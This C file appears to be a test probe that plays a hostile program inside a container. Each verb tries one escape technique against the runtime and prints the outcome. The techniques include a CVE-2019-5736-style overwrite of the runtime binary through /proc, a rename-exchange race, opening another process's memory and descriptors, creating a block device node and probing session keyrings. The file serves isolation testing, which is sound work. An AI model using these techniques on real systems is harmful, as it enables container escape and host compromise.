// What a hostile program in a container tries, a verb each; it prints what it got. Static: it runs in any root.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/vfs.h>
#include <time.h>
#include <unistd.h>

static const char* name_of(int number) { return number ? strerrorname_np(number) : "done"; }

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

// Every open descriptor, without a procfs: its number, kind, device and inode.
static int descriptors(void) {
  for (int fd = 0; fd < 1024; fd++) {
    struct stat s;
    if (fstat(fd, &s) == 0) printf("%d %o %lx:%lu\n", fd, s.st_mode & S_IFMT, (long)s.st_dev, (long)s.st_ino);
  }
  return 0;
}

static int bits(void) {
  mode_t mask = umask(0);
  printf("securebits %d keepcaps %d no_new_privs %d umask %04o\n", prctl(PR_GET_SECUREBITS), prctl(PR_GET_KEEPCAPS),
         prctl(PR_GET_NO_NEW_PRIVS, 0, 0, 0, 0), mask);
  return 0;
}

// A session keyring with a key in it, and the rest of the words run with it.
static int with_key(char** argv) {
  if (syscall(SYS_keyctl, 1, NULL, 0, 0, 0) < 0) return perror("session"), 1;
  if (syscall(SYS_add_key, "user", argv[0], "secret", 6, -3) < 0) return perror("add_key"), 1;
  execv(argv[1], argv + 1);
  return perror(argv[1]), 1;
}

static int key(const char* name) {
  char about[256] = "";
  syscall(SYS_keyctl, 6, -3, about, sizeof about - 1, 0);
  long found = syscall(SYS_keyctl, 10, -3, "user", name, 0);
  printf("%s\n%s\n", about, found < 0 ? name_of(errno) : "found");
  return 0;
}

// CVE-2019-5736: for writing at once, and through a descriptor that outlives the process.
static int overwrite(const char* path, const char* label) {
  char again[64];
  int direct = open(path, O_WRONLY);
  if (direct < 0 && errno == ENOENT) return 0;
  printf("%s open %s\n", label, direct < 0 ? name_of(errno) : "done");
  if (direct >= 0) printf("%s write %s\n", label, write(direct, "#!", 2) < 0 ? name_of(errno) : "done");
  int held = open(path, O_RDONLY);
  if (held < 0) return 0;
  printf("%s truncate %s\n", label, name_of(truncate(path, 0) ? errno : 0));
  snprintf(again, sizeof again, "/proc/self/fd/%d", held);
  for (double end = now() + 0.5; now() < end;) {
    int fd = open(again, O_RDWR);
    if (fd < 0 && errno == ETXTBSY) continue;
    if (fd < 0) printf("%s reopen %s\n", label, name_of(errno));
    else printf("%s rewrite %s\n", label, write(fd, "#!", 2) < 0 ? name_of(errno) : "done");
    if (fd >= 0) close(fd);
    break;
  }
  close(held);
  return 1;
}

static int exchange(const char* one, const char* other, double seconds) {
  long count = 0;
  for (double end = now() + seconds; now() < end; count++) {
    if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) != 0) return perror("exchange"), 1;
    if (count % 64 == 0) usleep(200);
  }
  return printf("%ld\n", count), 0;
}

static struct stat own_root, own_proc;

static void say(const char* what, const char* link) {
  static char said[64][200];
  char line[200];
  snprintf(line, sizeof line, "%s %s", what, link);
  for (int i = 0; i < 64; i++) {
    if (!*said[i]) {
      strcpy(said[i], line);
      printf("%s\n", line);
      fflush(stdout);
      return;
    }
    if (strcmp(said[i], line) == 0) return;
  }
}

// What a directory of another process is, by what it is and not by its name.
static void judge(const char* path, const char* what) {
  struct stat s;
  struct statfs f;
  if (stat(path, &s) != 0 || !S_ISDIR(s.st_mode) || statfs(path, &f) != 0) return;
  if (f.f_type == 0x9fa0 && s.st_dev != own_proc.st_dev) say(what, "is a foreign procfs");
  else if (s.st_dev != own_root.st_dev && f.f_type != 0x9fa0) say(what, "is a foreign directory");
}

// A process of the runtime in this pid namespace, on its way to its exec.
static void look(const char* pid) {
  char path[300], link[256] = "";
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  if (readlink(path, link, sizeof link - 1) < 0 || strncmp(link, "/memfd:", 7) != 0) return;
  say("exe", "is the runtime");
  static int tried;
  if (tried < 3) tried += overwrite(path, "exe");
  snprintf(path, sizeof path, "/proc/%s/root", pid);
  judge(path, "root");
  snprintf(path, sizeof path, "/proc/%s/cwd", pid);
  judge(path, "cwd");
  for (int fd = 0; fd < 24; fd++) {
    snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, fd);
    judge(path, "descriptor");
  }
}

static int is_runtime(const char* pid) {
  char path[300], comm[32] = "";
  snprintf(path, sizeof path, "/proc/%s/comm", pid);
  int fd = open(path, O_RDONLY);
  ssize_t size = fd < 0 ? 0 : read(fd, comm, sizeof comm - 1);
  if (fd >= 0) close(fd);
  return size > 0 && strcmp(comm, "stack-shim\n") == 0;
}

// Its memory is that of before its exec where it is still the runtime afterwards. Attaching asks for the same right.
static void attach(const char* pid) {
  char path[300];
  if (!is_runtime(pid)) return;
  say("seen", "the runtime");
  snprintf(path, sizeof path, "/proc/%s/mem", pid);
  int fd = open(path, O_RDWR);
  if (fd >= 0 && is_runtime(pid)) say("mem", "opened");
  if (fd >= 0) close(fd);
  for (int number = 0; number < 24; number++) {
    char link[256];
    snprintf(path, sizeof path, "/proc/%s/fd/%d", pid, number);
    if (readlink(path, link, sizeof link) >= 0 && is_runtime(pid)) say("descriptor", "read");
  }
}

// The rights that whoever traces it would get with it.
static void rights(const char* pid) {
  char path[300], text[4096] = "", *line;
  snprintf(path, sizeof path, "/proc/%s/status", pid);
  int fd = is_runtime(pid) ? open(path, O_RDONLY) : -1;
  ssize_t size = fd < 0 ? 0 : read(fd, text, sizeof text - 1);
  if (fd >= 0) close(fd);
  // One read is one instant: its name then was still the runtime's.
  if (size <= 0 || strncmp(text, "Name:\tstack-shim\n", 17) != 0 || !(line = strstr(text, "CapPrm:\t"))) return;
  line[24] = '\0';
  say("holds", line + 8);
}

// `look`, `attach` or `rights` at every process but the first and this one, for some seconds.
static int hunt(const char* how, double seconds) {
  void (*each)(const char*) = *how == 'l' ? look : *how == 'r' ? rights : attach;
  stat("/", &own_root);
  stat("/proc", &own_proc);
  say("hunting", "");
  for (double end = now() + seconds; now() < end;) {
    DIR* all = opendir("/proc");
    for (struct dirent* one; (one = readdir(all));) {
      int pid = atoi(one->d_name);
      if (pid > 1 && pid != getpid()) each(one->d_name);
    }
    closedir(all);
  }
  return 0;
}

static int device(const char* path, const char* how) {
  if (*how == 'm' && mknod(path, S_IFBLK | 0666, makedev(7, 0)) != 0) return printf("mknod %s\n", name_of(errno)), 0;
  int fd = open(path, *how == 'w' ? O_WRONLY : O_RDONLY);
  return printf("%s\n", fd < 0 ? name_of(errno) : "opened"), 0;
}

int main(int argc, char** argv) {
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char* verb = argc > 1 ? argv[1] : "";
  if (!strcmp(verb, "descriptors")) return descriptors();
  if (!strcmp(verb, "bits")) return bits();
  if (!strcmp(verb, "with-key") && argc > 3) return with_key(argv + 2);
  if (!strcmp(verb, "key") && argc > 2) return key(argv[2]);
  if (!strcmp(verb, "overwrite") && argc > 2) return overwrite(argv[2], "exe"), 0;
  if (!strcmp(verb, "exchange") && argc > 4) return exchange(argv[2], argv[3], atof(argv[4]));
  if (!strcmp(verb, "hunt") && argc > 3) return hunt(argv[2], atof(argv[3]));
  if (!strcmp(verb, "device") && argc > 3) return device(argv[2], argv[3]);
  return fprintf(stderr, "no such verb\n"), 2;
}
